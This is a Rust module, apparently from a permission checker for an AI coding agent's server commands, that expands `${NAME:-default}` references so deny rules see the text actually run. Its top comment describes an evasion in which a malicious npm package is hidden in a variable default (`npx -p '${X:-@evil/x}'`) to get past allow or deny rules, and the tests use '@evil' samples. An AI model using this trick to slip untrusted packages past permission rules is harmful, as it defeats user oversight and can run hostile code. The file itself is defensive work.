//! A text as a client hands it on when nothing is set that it refers to. Only denials read it so: a rule that allows
//! judges the reference itself.
//!
//! Attack: `npx -p '${X:-@evil/x}' …` under a rule for anything. Claude Code 2.1.197 puts the default in the place of the
//! reference before it starts the server.

/// References that are filled in in one text. What is beyond stays as written.
const MAX_REFERENCES: usize = 64;

/// The text with each `${NAME:-default}` as its default, and each `${NAME}` as nothing, from the innermost on. `None` if
/// there is none.
pub(super) fn filled(text: &str) -> Option<String> {
    // every text of every entry comes by here
    if !text.as_bytes().contains(&b'$') {
        return None;
    }
    let mut plain = fill_last(text)?;
    for _ in 1..MAX_REFERENCES {
        let Some(next) = fill_last(&plain) else { break };
        plain = next;
    }
    Some(plain)
}

/// The text with its last reference filled in: none stands inside of that one.
fn fill_last(text: &str) -> Option<String> {
    let mut end = text.len();
    loop {
        let start = text[..end].rfind("${")?;
        let inner = &text[start + 2..];
        // What is not closed is no reference, but one before it may be.
        if let Some(close) = inner.find('}') {
            return Some(format!("{}{}{}", &text[..start], default(&inner[..close]), &inner[close + 1..]));
        }
        end = start;
    }
}

/// What stands behind the name in a reference: `X:-y`, `X-y`, `X:=y`, `X:+y` and their like.
fn default(inner: &str) -> &str {
    let is_name = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let behind = inner.trim_start_matches(is_name);
    let behind = behind.strip_prefix(':').unwrap_or(behind);
    // `${env:NAME}`, `${input:id}` have none
    behind.strip_prefix(['-', '=', '+', '?']).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_reference_becomes_its_default_and_one_without_becomes_nothing() {
        for (text, expected) in [
            ("${X:-@evil/x}", "@evil/x"),
            ("npx ${A:-${B:-@evil}/x}@1", "npx @evil/x@1"),
            ("@ev${X}il/x", "@evil/x"),
            ("${X-a}${Y:=b}${Z:+c}${V-d-e}", "abcd-e"),
            ("${env:X}a${input:b}", "a"),
            ("${a ${X:-b}", "${a b"),
            ("${X:-a} ${b", "a ${b"),
        ] {
            assert_eq!(filled(text).as_deref(), Some(expected), "{text}");
        }
        for text in ["", "$X", "{a}", "${a", "a}", "$ {a}"] {
            assert_eq!(filled(text), None, "{text}");
        }
    }

    #[test]
    fn no_more_references_are_filled_in_than_the_limit() {
        let text = "${X:-a}".repeat(MAX_REFERENCES + 1);
        assert_eq!(
            filled(&text).as_deref(),
            Some(format!("${{X:-a}}{}", "a".repeat(MAX_REFERENCES)).as_str())
        );
    }
}
